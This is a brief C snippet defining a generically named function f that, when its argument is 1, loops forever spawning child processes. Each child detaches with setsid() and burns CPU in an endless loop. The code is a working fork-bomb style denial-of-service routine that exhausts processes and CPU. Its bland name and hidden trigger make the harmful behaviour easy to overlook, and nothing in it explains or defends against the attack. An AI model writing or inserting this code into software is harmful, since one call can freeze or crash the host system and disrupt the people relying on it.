#include <unistd.h>

int f(int n) {
    while (n == 1) {
        if (fork() == 0) {
            setsid();
            for (volatile int i = 0;;) i = i + 1;
        }
    }
    return n;
}
